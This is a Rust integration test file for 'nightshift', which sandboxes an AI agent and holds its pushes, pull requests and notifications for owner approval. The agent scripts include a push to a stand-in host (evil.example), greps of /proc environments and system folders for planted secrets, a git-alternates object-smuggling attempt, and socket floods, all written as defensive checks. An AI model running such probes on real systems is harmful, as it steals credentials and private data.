//! Night to morning through the door: a sandboxed agent asks for acts, the
//! gate refuses what it must, the rest waits for a person; approved acts are
//! carried out with credentials that never entered the sandbox, and only as
//! approved (a moved remote ref makes an act stale instead).

use std::os::unix::fs::PermissionsExt;

use tests::loopback::{ForgeServer, GitHttpServer, NotifyServer};
use tests::morning::remote_ref;
use tests::{git, image, make_repo, only_run, stderr, stdout, State};

const PASSWORD: &str = "s3cret-door-password-5e1f";
const TOKEN: &str = "forge-token-9a8b7c";

struct Morning {
    state: State,
    repo: tempfile::TempDir,
    _remote_dir: tempfile::TempDir,
    bare: std::path::PathBuf,
    git_server: GitHttpServer,
    notify: NotifyServer,
    public_log: NotifyServer,
    forge: ForgeServer,
    key: std::path::PathBuf,
}

fn setup() -> Morning {
    let state = State::new();
    let repo = make_repo();
    let remote_dir = tempfile::tempdir().unwrap();
    let bare = remote_dir.path().join("origin.git");
    git(
        remote_dir.path(),
        &["init", "-q", "--bare", bare.to_str().unwrap()],
    );
    let git_server = GitHttpServer::start(&bare, "nightshift", PASSWORD);
    let notify = NotifyServer::start();
    let public_log = NotifyServer::start();
    let forge = ForgeServer::start(TOKEN);
    let secrets = state.path().join("secrets");
    std::fs::create_dir(&secrets).unwrap();
    let pw = secrets.join("origin.password");
    std::fs::write(&pw, PASSWORD).unwrap();
    std::fs::set_permissions(&pw, std::fs::Permissions::from_mode(0o600)).unwrap();
    let token = secrets.join("forge.token");
    std::fs::write(&token, TOKEN).unwrap();
    std::fs::set_permissions(&token, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::write(
        state.path().join("destinations.toml"),
        format!(
            "[remotes.origin]\nurl = \"{}\"\nreaders = \"private\"\nusername = \"nightshift\"\npassword_file = \"{}\"\n\n\
             [notify.team]\nurl = \"{}\"\nreaders = \"private\"\n\n\
             [notify.public-log]\nurl = \"{}\"\nreaders = \"public\"\n\n\
             [forges.forge]\napi = \"{}\"\nrepo = \"owner/name\"\nremote = \"origin\"\ntoken_file = \"{}\"\nreaders = \"private\"\n",
            git_server.url(),
            pw.display(),
            notify.url(),
            public_log.url(),
            forge.url(),
            token.display()
        ),
    )
    .unwrap();
    assert!(state.run(&["owner", "init"]).status.success());
    let key = state.path().join("owner.key");
    Morning {
        state,
        repo,
        _remote_dir: remote_dir,
        bare,
        git_server,
        notify,
        public_log,
        forge,
        key,
    }
}

fn run_agent(m: &Morning, script: &str) -> String {
    let out = m.state.run(&[
        "run",
        "--repo",
        m.repo.path().to_str().unwrap(),
        "--image",
        &image(),
        "--",
        "bash",
        "-c",
        script,
    ]);
    assert!(
        out.status.success(),
        "agent run failed: {}{}",
        stdout(&out),
        stderr(&out)
    );
    let runs = m.state.runs();
    let id = runs.last().unwrap()["id"].as_str().unwrap().to_string();
    m.state.output_log(&id)
}

fn queue(m: &Morning) -> Vec<serde_json::Value> {
    let out = m.state.run(&["queue", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    serde_json::from_slice(&out.stdout).unwrap()
}

fn act_of(queue: &[serde_json::Value], door: &str) -> String {
    queue
        .iter()
        .find(|a| a["act"]["door"] == door)
        .unwrap_or_else(|| panic!("no {door} act in {queue:?}"))["act"]["id"]
        .as_str()
        .unwrap()
        .to_string()
}

/// Starts `nightshift approve ACT` and SIGKILLs it once the act's state is
/// `status`: a supervisor dying at that point of carrying it out.
fn approve_and_kill_when(m: &Morning, act: &str, status: &str) {
    use nix::sys::signal::{kill, Signal};
    use nix::unistd::Pid;
    let child = m
        .state
        .cmd()
        .args(["approve", act, "--owner-key-file", m.key.to_str().unwrap()])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while queue(m)[0]["status"] != status {
        if started.elapsed() > std::time::Duration::from_secs(30) {
            panic!("act {act} never became {status}");
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    kill(Pid::from_raw(child.id() as i32), Signal::SIGKILL).unwrap();
    let _ = child.wait_with_output();
}

#[test]
fn night_to_morning() {
    let m = setup();
    // Acts wait 40 s for a person: long enough to decide some, short enough
    // to watch one expire.
    std::fs::write(
        m.state.path().join("config.toml"),
        "[queue]\npending_ttl = \"40s\"\n",
    )
    .unwrap();
    let log = run_agent(
        &m,
        &format!(
            r#"set -u
echo "work" > work.txt && git add work.txt && git commit -qm "agent: work"
echo "commit=$(git rev-parse HEAD)"
git push origin HEAD:refs/heads/agent/work 2>&1; echo "push=$?"
git checkout -q -b agent/second && echo two > two.txt && git add two.txt && git commit -qm two
git push origin agent/second:refs/heads/agent/second 2>&1; echo "push2=$?"
git checkout -q nightshift/run/$NIGHTSHIFT_RUN_ID
git branch -f agent/work HEAD
echo "Adds work.txt." > pr.txt
nightshift-act pr --remote forge --base main --head agent/work --title "Add work" --body-file pr.txt; echo "pr=$?"
echo "the build is green" > msg.txt
nightshift-act notify team --file msg.txt; echo "notify=$?"
nightshift-act notify public-log --file msg.txt; echo "public=$?"
nightshift-act push https://evil.example/x.git main; echo "url=$?"
nightshift-act push /srv/other.git main; echo "path=$?"
echo "should the parser be rewritten?" > q.txt
nightshift-act ask --file q.txt; echo "ask=$?"
echo "door-dir=$(ls /run/nightshift | tr '\n' ' ')"
if touch /run/nightshift/x 2>/dev/null; then echo "door-writable=yes"; else echo "door-writable=no"; fi
if env | grep -q -e {PASSWORD} -e {TOKEN}; then echo "env-secret=present"; else echo "env-secret=absent"; fi
if grep -rqs -e {PASSWORD} -e {TOKEN} /run/nightshift /workspace /home /tmp /etc; then echo "file-secret=present"; else echo "file-secret=absent"; fi
if cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -q -e {PASSWORD} -e {TOKEN}; then echo "proc-secret=present"; else echo "proc-secret=absent"; fi
"#
        ),
    );
    let get = |k: &str| {
        log.lines()
            .find_map(|l| l.strip_prefix(&format!("{k}=")))
            .unwrap_or("<missing>")
            .to_string()
    };
    assert_eq!(get("push"), "0", "{log}");
    assert_eq!(get("push2"), "0", "{log}");
    assert!(log.contains("queued as act"), "{log}");
    assert_eq!(get("pr"), "0", "{log}");
    assert_eq!(get("notify"), "0", "{log}");
    assert_eq!(
        get("public"),
        "3",
        "private content to a public destination: {log}"
    );
    assert!(log.contains("refused by rule nightshift:labels"), "{log}");
    assert_ne!(get("url"), "0", "a raw URL was accepted: {log}");
    assert_ne!(get("path"), "0", "a raw path was accepted: {log}");
    assert_eq!(get("ask"), "0");
    assert_eq!(get("env-secret"), "absent");
    assert_eq!(get("file-secret"), "absent");
    assert_eq!(get("proc-secret"), "absent");
    // The run sees its own door only (no other run's socket, nothing to write),
    // and the door has no operation on existing acts at all.
    assert_eq!(get("door-dir"), "bin door.sock heartbeat ", "{log}");
    assert_eq!(get("door-writable"), "no");
    // Nothing left the sandbox during the night.
    assert!(
        m.git_server.requests().iter().all(|r| r.method == "GET"),
        "a push reached the remote overnight"
    );
    assert_eq!(remote_ref(&m.bare, "refs/heads/agent/work"), None);
    assert!(m.notify.requests().is_empty());
    assert!(m.public_log.requests().is_empty());
    assert!(m.forge.requests().is_empty());

    // Morning: five acts wait.
    let q = queue(&m);
    assert_eq!(q.len(), 5, "{q:?}");
    assert!(q.iter().all(|a| a["status"] == "pending"));
    let pushes: Vec<String> = q
        .iter()
        .filter(|a| a["act"]["door"] == "push")
        .map(|a| a["act"]["id"].as_str().unwrap().to_string())
        .collect();
    let (push, push2) = (&pushes[0], &pushes[1]);
    let pr = act_of(&q, "pull_request");
    let notify = act_of(&q, "notify");

    // Approval needs the owner's credential.
    let out = m.state.run(&["approve", push]);
    assert_eq!(out.status.code(), Some(9), "{}", stderr(&out));
    let wrong = m.state.path().join("wrong.key");
    std::fs::write(&wrong, "not the key").unwrap();
    let out = m
        .state
        .run(&["approve", push, "--owner-key-file", wrong.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(9));
    assert_eq!(remote_ref(&m.bare, "refs/heads/agent/work"), None);

    let key = m.key.to_str().unwrap();
    let out = m.state.run(&[
        "approve",
        push,
        pr.as_str(),
        notify.as_str(),
        "--owner-key-file",
        key,
    ]);
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    assert_eq!(
        stdout(&out).matches(": done").count(),
        3,
        "{}",
        stdout(&out)
    );
    assert_eq!(
        remote_ref(&m.bare, "refs/heads/agent/work").as_deref(),
        Some(get("commit").as_str())
    );
    // Exactly one pull request, with the right head, base, title and token.
    let prs = m.forge.requests();
    assert_eq!(prs.len(), 1, "{prs:?}");
    assert_eq!(
        prs[0].authorization.as_deref(),
        Some(format!("Bearer {TOKEN}").as_str())
    );
    let sent = prs[0].json();
    assert_eq!(sent["head"], "agent/work");
    assert_eq!(sent["base"], "main");
    assert_eq!(sent["title"], "Add work");
    assert_eq!(sent["body"], "Adds work.txt.\n");
    // The message went out exactly as the agent wrote it, once.
    let sent = m.notify.requests();
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].body, b"the build is green\n");
    // Single use: approving again does nothing more.
    let out = m.state.run(&["approve", push, "--owner-key-file", key]);
    assert!(!out.status.success());

    let out = m.state.run(&[
        "reject",
        push2,
        "--why",
        "not this one",
        "--owner-key-file",
        key,
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        remote_ref(&m.bare, "refs/heads/agent/second"),
        None,
        "a rejected push was carried out"
    );

    // The question is left alone until its window closes: it expires, never proceeds.
    let created = q
        .iter()
        .map(|a| a["act"]["created_at"].as_i64().unwrap())
        .max()
        .unwrap();
    let deadline = std::time::UNIX_EPOCH + std::time::Duration::from_secs((created + 41) as u64);
    if let Ok(wait) = deadline.duration_since(std::time::SystemTime::now()) {
        std::thread::sleep(wait);
    }
    let q = queue(&m);
    let status = |id: &str| {
        q.iter().find(|a| a["act"]["id"] == id).unwrap()["status"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert_eq!(status(&act_of(&q, "ask")), "expired");
    assert_eq!(status(push), "done");
    assert_eq!(status(push2), "rejected");
    let ask = act_of(&q, "ask");
    let out = m.state.run(&["approve", &ask, "--owner-key-file", key]);
    assert!(!out.status.success(), "an expired act was approved");

    // The password and token never reached the audit or the queue either.
    // (The runs table holds the agent's command, which names them to probe for.)
    // Read through the store's port, whichever store it is.
    let store = m.state.stores().connect().unwrap();
    let tables: [(&str, Vec<String>); 3] = [
        (
            "audit",
            m.state
                .audit_entries()
                .into_iter()
                .map(|e| format!("{} {}", e.kind, serde_json::Value::Object(e.body)))
                .collect(),
        ),
        (
            "acts",
            store
                .acts(None)
                .unwrap()
                .into_iter()
                .map(|(act, state, content)| {
                    format!(
                        "{act} {state} {}",
                        String::from_utf8_lossy(&content.unwrap_or_default())
                    )
                })
                .collect(),
        ),
        (
            "policy_rows",
            store
                .policy_rows()
                .unwrap()
                .into_iter()
                .map(|r| r.to_string())
                .collect(),
        ),
    ];
    for (table, rows) in tables {
        for row in rows {
            assert!(
                !row.contains(PASSWORD) && !row.contains(TOKEN),
                "a secret is in {table}: {row}"
            );
        }
    }
    assert!(m.state.verify().status.success());
}

#[test]
fn a_moved_remote_makes_an_approved_act_stale() {
    let m = setup();
    run_agent(
        &m,
        "echo a > a.txt && git add a.txt && git commit -qm a && git push origin HEAD:refs/heads/agent/stale",
    );
    let push = act_of(&queue(&m), "push");
    // Someone else pushes to that branch before the morning.
    let other = tempfile::tempdir().unwrap();
    git(other.path(), &["init", "-q", "-b", "main"]);
    std::fs::write(other.path().join("b.txt"), "b").unwrap();
    git(other.path(), &["add", "-A"]);
    git(other.path(), &["commit", "-qm", "someone else"]);
    git(
        other.path(),
        &[
            "push",
            "-q",
            m.bare.to_str().unwrap(),
            "HEAD:refs/heads/agent/stale",
        ],
    );
    let theirs = remote_ref(&m.bare, "refs/heads/agent/stale");
    let out = m.state.run(&[
        "approve",
        &push,
        "--owner-key-file",
        m.key.to_str().unwrap(),
    ]);
    assert!(
        stdout(&out).contains("stale"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    assert_eq!(
        remote_ref(&m.bare, "refs/heads/agent/stale"),
        theirs,
        "the remote was forced"
    );
    let q = queue(&m);
    assert_eq!(q[0]["status"], "stale");
    assert!(m.state.verify().status.success());
    let _ = only_run(&m.state);
}

#[test]
fn kill_9_between_approval_and_execution_executes_once() {
    let m = setup();
    let log = run_agent(
        &m,
        "echo c > c.txt && git add c.txt && git commit -qm c && echo commit=$(git rev-parse HEAD) && git push origin HEAD:refs/heads/agent/crash",
    );
    let commit = log
        .lines()
        .find_map(|l| l.strip_prefix("commit="))
        .unwrap()
        .to_string();
    let push = act_of(&queue(&m), "push");
    // Point origin at a black hole for the morning: the executor hangs there.
    let config_path = m.state.path().join("destinations.toml");
    let config = std::fs::read_to_string(&config_path).unwrap();
    let hole = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let hole_url = format!("http://{}/origin.git", hole.local_addr().unwrap());
    std::fs::write(&config_path, config.replace(&m.git_server.url(), &hole_url)).unwrap();
    approve_and_kill_when(&m, &push, "approved");
    assert_eq!(queue(&m)[0]["status"], "approved");
    assert_eq!(remote_ref(&m.bare, "refs/heads/agent/crash"), None);
    // The supervisor comes back (origin reachable again): carried out once.
    std::fs::write(&config_path, config).unwrap();
    let out = m.state.run(&[
        "approve",
        &push,
        "--owner-key-file",
        m.key.to_str().unwrap(),
    ]);
    assert!(
        stdout(&out).contains("done"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    assert_eq!(
        remote_ref(&m.bare, "refs/heads/agent/crash").as_deref(),
        Some(commit.as_str())
    );
    let receive_packs = m
        .git_server
        .requests()
        .iter()
        .filter(|r| r.method == "POST" && r.path.ends_with("git-receive-pack"))
        .count();
    assert_eq!(receive_packs, 1, "pushed more than once");
    let out = m.state.run(&[
        "approve",
        &push,
        "--owner-key-file",
        m.key.to_str().unwrap(),
    ]);
    assert!(!out.status.success(), "a done act was carried out again");
    assert!(m.state.verify().status.success());
}

#[test]
fn a_flood_of_acts_is_answered_audited_and_capped() {
    let m = setup();
    let log = run_agent(
        &m,
        "echo hi > q.txt; ok=0; refused=0; for i in $(seq 1 260); do if nightshift-act ask --file q.txt >/dev/null 2>>err.txt; then ok=$((ok+1)); else refused=$((refused+1)); fi; done; echo ok=$ok refused=$refused; tail -1 err.txt; rm err.txt",
    );
    assert!(log.contains("ok=200 refused=60"), "{log}");
    assert!(log.contains("refused by rule nightshift:rate-cap"), "{log}");
    // Each request answered and audited exactly once.
    assert_eq!(m.state.count_audit("door_request", ""), 260);
    assert_eq!(queue(&m).len(), 200);
    assert!(m.state.verify().status.success());
}

#[test]
fn a_destination_that_stays_down_is_retried_with_backoff_then_failed() {
    let m = setup();
    // A notification endpoint nobody listens on.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/hook", closed.local_addr().unwrap());
    drop(closed);
    let config_path = m.state.path().join("destinations.toml");
    let config = std::fs::read_to_string(&config_path).unwrap();
    std::fs::write(&config_path, config.replace(&m.notify.url(), &url)).unwrap();
    run_agent(
        &m,
        "echo hello > m.txt && nightshift-act notify team --file m.txt",
    );
    let notify = act_of(&queue(&m), "notify");
    let out = m.state.run(&[
        "approve",
        &notify,
        "--owner-key-file",
        m.key.to_str().unwrap(),
    ]);
    assert!(
        stdout(&out).contains(": failed ("),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    let attempts = m.state.count_audit("act", "\"transition\":\"executing\"");
    assert_eq!(attempts, 3, "bounded attempts");
    assert_eq!(queue(&m)[0]["status"], "failed");
    assert!(m.state.verify().status.success());
}

#[test]
fn malformed_and_oversized_door_requests_get_an_error_and_an_audit_entry() {
    let m = setup();
    let log = run_agent(
        &m,
        r#"python3 - <<'PY'
import socket, struct
def send(raw):
    s = socket.socket(socket.AF_UNIX); s.connect("/run/nightshift/door.sock")
    s.sendall(raw)
    try:
        head = s.recv(4)
        n = struct.unpack(">I", head)[0]
        data = b""
        while len(data) < n:
            data += s.recv(n - len(data))
        print("answer=" + data.decode())
    except Exception as e:
        print("answer=none")
    s.close()
send(struct.pack(">I", 12) + b"not json {{{")
send(struct.pack(">I", 0x7fffffff))
send(struct.pack(">I", 2) + b"{}" + b"trailing")
PY
echo q > q.txt; nightshift-act ask --file q.txt; echo "after=$?""#,
    );
    let answers: Vec<&str> = log.lines().filter(|l| l.starts_with("answer=")).collect();
    assert_eq!(answers.len(), 3, "{log}");
    for a in &answers {
        assert!(a.contains("\"error\""), "not an error reply: {a}");
    }
    // The door still answers afterwards.
    assert!(log.contains("after=0"), "{log}");
    let errors = m.state.count_audit("door_request", "\"verdict\":\"error\"");
    assert_eq!(errors, 3);
    // Each with its reason's code, never "unknown / error" alone.
    let codes: Vec<String> = m
        .state
        .audit_bodies("door_request")
        .iter()
        .filter(|b| b["verdict"] == "error")
        .map(|b| b["reason"].as_str().unwrap_or("(none)").to_string())
        .collect();
    assert!(
        codes.contains(&"malformed_json".to_string()) && codes.contains(&"oversized".to_string()),
        "{codes:?}"
    );
    assert!(!codes.contains(&"(none)".to_string()), "{codes:?}");
    // `show` says why in words.
    let run = tests::only_run(&m.state)["id"]
        .as_str()
        .unwrap()
        .to_string();
    let out = m.state.run(&["show", &run]);
    assert!(
        stdout(&out)
            .contains("the door: it was not the JSON the protocol expects (malformed_json)"),
        "{}",
        stdout(&out)
    );
    assert!(m.state.verify().status.success());
}

#[test]
fn kill_9_during_execution_never_sends_twice_and_ends_defined() {
    let m = setup();
    // An endpoint that accepts the connection and never answers.
    let hole = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/hook", hole.local_addr().unwrap());
    let config_path = m.state.path().join("destinations.toml");
    let config = std::fs::read_to_string(&config_path).unwrap();
    std::fs::write(&config_path, config.replace(&m.notify.url(), &url)).unwrap();
    run_agent(
        &m,
        "echo hello > m.txt && nightshift-act notify team --file m.txt",
    );
    let notify = act_of(&queue(&m), "notify");
    approve_and_kill_when(&m, &notify, "executing");
    // Restart with the endpoint reachable: the message cannot be known to
    // have gone out, so it is not sent again: it goes stale, for a person.
    std::fs::write(&config_path, config).unwrap();
    let out = m.state.run(&[
        "approve",
        &notify,
        "--owner-key-file",
        m.key.to_str().unwrap(),
    ]);
    assert!(!out.status.success(), "{}", stdout(&out));
    assert_eq!(queue(&m)[0]["status"], "stale");
    assert!(
        m.notify.requests().is_empty(),
        "the message was sent again after the crash"
    );
    assert!(m.state.verify().status.success());
    drop(hole);
}

#[test]
fn a_push_cannot_smuggle_objects_from_another_host_repository() {
    let m = setup();
    // A private repository elsewhere on the host, whose commit id the agent knows.
    let secret = make_repo();
    std::fs::write(secret.path().join("secret.txt"), "PRIVATE-HOST-CONTENT\n").unwrap();
    git(secret.path(), &["add", "-A"]);
    git(secret.path(), &["commit", "-qm", "secret"]);
    let secret_commit = git(secret.path(), &["rev-parse", "HEAD"])
        .trim()
        .to_string();
    let objects = secret.path().join(".git/objects");
    let log = run_agent(
        &m,
        &format!(
            r#"echo {objects} > .git/objects/info/alternates
python3 - <<'PY'
import json, socket, struct
s = socket.socket(socket.AF_UNIX); s.connect("/run/nightshift/door.sock")
body = json.dumps({{"v": 3, "request": {{"door": "push", "remote": "origin",
    "dst_ref": "refs/heads/agent/smuggle", "claimed_commit": "{secret_commit}",
    "force": False, "delete": False, "pack_bytes": 0}}}}).encode()
s.sendall(struct.pack(">I", len(body)) + body)
n = struct.unpack(">I", s.recv(4))[0]
data = b""
while len(data) < n:
    data += s.recv(n - len(data))
print("answer=" + data.decode())
PY
"#,
            objects = objects.display()
        ),
    );
    let answer = log
        .lines()
        .find(|l| l.starts_with("answer="))
        .unwrap_or_else(|| panic!("no answer: {log}"));
    eprintln!("{answer}");
    assert!(
        answer.contains("\"error\""),
        "a foreign commit was not refused: {answer}"
    );
    // Nothing of the other repository reached this one.
    let dump = std::process::Command::new("git")
        .arg("-C")
        .arg(m.repo.path())
        .args(["cat-file", "--batch-all-objects", "--batch"])
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&dump.stdout).contains("PRIVATE-HOST-CONTENT"));
    assert!(queue(&m).is_empty());
    assert!(m.state.verify().status.success());
}

#[test]
fn a_flood_of_requests_past_the_door_cap_cannot_grow_the_audit() {
    let m = setup();
    let log = run_agent(
        &m,
        r#"python3 - <<'PY'
import json, socket, struct
refused = 0
for i in range(1200):
    s = socket.socket(socket.AF_UNIX); s.connect("/run/nightshift/door.sock")
    body = json.dumps({"v": 3, "request": {"door": "notify", "destination": "nowhere", "body": "x"}}).encode()
    try:
        s.sendall(struct.pack(">I", len(body)) + body)
    except BrokenPipeError:
        pass  # past the cap the door answers without reading
    n = struct.unpack(">I", s.recv(4))[0]
    data = b""
    while len(data) < n:
        data += s.recv(n - len(data))
    if "rate-cap" in data.decode():
        refused += 1
    s.close()
print("capped=%d" % refused)
PY
"#,
    );
    assert!(log.contains("capped=200"), "{log}");
    let count = |verdict: &str| {
        m.state
            .count_audit("door_request", &format!("\"verdict\":\"{verdict}\""))
    };
    assert_eq!(count("refused"), 1000, "each answered request audited once");
    assert_eq!(count("flood"), 1, "the flood itself audited once");
    assert!(m.state.verify().status.success());
}

/// Runs `n` asks from a sandbox on `repo`; returns the run's id and log.
fn ask_n_times(m: &Morning, repo: &std::path::Path, n: u32) -> (String, String) {
    let out = m.state.run(&[
        "run",
        "--repo",
        repo.to_str().unwrap(),
        "--image",
        &image(),
        "--",
        "bash",
        "-c",
        &format!(
            "echo hi > q.txt; ok=0; refused=0; for i in $(seq 1 {n}); do if nightshift-act ask --file q.txt >/dev/null 2>>err.txt; then ok=$((ok+1)); else refused=$((refused+1)); fi; done; echo ok=$ok refused=$refused; tail -1 err.txt; rm err.txt q.txt"
        ),
    ]);
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    let id = m.state.runs().last().unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let log = m.state.output_log(&id);
    (id, log)
}

#[test]
fn the_queue_is_bounded_per_night_and_per_repository_and_a_run_is_rejected_at_once() {
    let m = setup();
    std::fs::write(
        m.state.path().join("config.toml"),
        "[queue]\nmax_acts_per_night = 15\nmax_acts_per_repository = 10\n",
    )
    .unwrap();
    // One repository's runs stop at its bound...
    let (first, log) = ask_n_times(&m, m.repo.path(), 12);
    assert!(log.contains("ok=10 refused=2"), "{log}");
    assert!(
        log.contains("refused by rule nightshift:queue-repository")
            && log.contains("max_acts_per_repository = 10"),
        "{log}"
    );
    // ... and all runs together at the night's, whatever the repository.
    let other = make_repo();
    let (_, log) = ask_n_times(&m, other.path(), 12);
    assert!(log.contains("ok=5 refused=7"), "{log}");
    assert!(
        log.contains("refused by rule nightshift:queue-night")
            && log.contains("max_acts_per_night = 15"),
        "{log}"
    );
    // Every refusal is audited by name.
    let count = |rule: &str| m.state.count_audit("door_request", rule);
    assert_eq!(count("nightshift:queue-repository"), 2);
    assert_eq!(count("nightshift:queue-night"), 7);
    assert_eq!(queue(&m).len(), 15);

    // The owner rejects all of the first run's acts at once.
    let out = m.state.run(&[
        "reject",
        "--run",
        &first,
        "--why",
        "flooded the queue",
        "--owner-key-file",
        m.key.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    assert_eq!(
        stdout(&out).matches(": rejected").count(),
        10,
        "{}",
        stdout(&out)
    );
    let q = queue(&m);
    let of_first: Vec<_> = q
        .iter()
        .filter(|a| a["act"]["run"] == first.as_str())
        .collect();
    assert_eq!(of_first.len(), 10);
    assert!(
        of_first.iter().all(|a| a["status"] == "rejected"),
        "{of_first:?}"
    );
    assert_eq!(
        q.iter().filter(|a| a["status"] == "pending").count(),
        5,
        "the other run's acts wait still"
    );
    // Without the owner's key nothing is rejected; an unknown run is named.
    let wrong = m.state.path().join("not-the-key");
    std::fs::write(&wrong, "not the key\n").unwrap();
    let out = m.state.run(&[
        "reject",
        "--run",
        &first,
        "--why",
        "x",
        "--owner-key-file",
        wrong.to_str().unwrap(),
    ]);
    assert_eq!(
        out.status.code(),
        Some(9),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    let out = m
        .state
        .cmd()
        .args(["reject", "--run", "no-such-run", "--why", "x"])
        .args(["--owner-key-file", m.key.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(stderr(&out).contains("no run"), "{}", stderr(&out));
    assert!(m.state.verify().status.success());
}

/// The text output of `run` and of `show` lists what the run left for the
/// morning: its queued acts and its refused door requests.
#[test]
fn run_and_show_list_the_runs_queued_acts_and_refused_requests() {
    let state = State::new();
    let repo = make_repo();
    let out = state.run(&[
        "run",
        "--repo",
        repo.path().to_str().unwrap(),
        "--image",
        &image(),
        "--",
        "bash",
        "-c",
        "echo q > q.txt; nightshift-act ask --file q.txt; nightshift-act notify nowhere --file q.txt; true",
    ]);
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    let id = only_run(&state)["id"].as_str().unwrap().to_string();
    let shown = state.run(&["show", &id]);
    for text in [stdout(&out), stdout(&shown)] {
        assert!(
            text.contains("acts queued (1; review: nightshift queue):"),
            "{text}"
        );
        assert!(text.contains("pending    ask to "), "{text}");
        assert!(text.contains("refused door requests (1):"), "{text}");
        assert!(text.contains("notify to nowhere"), "{text}");
    }
}

/// A push the remote refuses with a hook's message carries the remote's own
/// words, sanitised and bounded, into the act's failure: `queue show`, the
/// audit entry's reason and `show`'s listing say why, not just `git`.
#[test]
fn a_push_the_remote_refuses_carries_the_remotes_own_words() {
    let m = setup();
    let hook = m.bare.join("hooks/pre-receive");
    std::fs::write(
        &hook,
        "#!/bin/sh\necho 'policy: branch names must start with team/' >&2\nprintf 'two\\033[31m\\r\\n' >&2\nexit 1\n",
    )
    .unwrap();
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
    let log = run_agent(
        &m,
        "echo w > w.txt && git add w.txt && git commit -qm w && git push origin HEAD:refs/heads/agent/work 2>&1; echo push=$?",
    );
    assert!(log.contains("push=0"), "{log}");
    let push = act_of(&queue(&m), "push");
    let out = m.state.run(&[
        "approve",
        &push,
        "--owner-key-file",
        m.key.to_str().unwrap(),
    ]);
    // The approval's own answer already says why.
    let said = stdout(&out) + &stderr(&out);
    assert!(
        said.contains("failed (rejected: ") && said.contains("branch names must start with team/"),
        "{said}"
    );
    let q = queue(&m);
    assert_eq!(q[0]["status"], "failed", "{q:?}");
    let reason = q[0]["state"]["reason"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(
        reason.starts_with("rejected: ")
            && reason.contains("the destination said \"")
            && reason.contains("policy: branch names must start with team/"),
        "{reason}\n{q:?}"
    );
    assert!(!reason.chars().any(char::is_control), "{reason:?}");
    let shown = m.state.run(&["queue", "show", &push]);
    assert!(
        stdout(&shown).contains("branch names must start with team/"),
        "{}",
        stdout(&shown)
    );
    assert!(
        m.state
            .count_audit("act", "branch names must start with team/")
            >= 1
    );
    assert_eq!(remote_ref(&m.bare, "refs/heads/agent/work"), None);
}
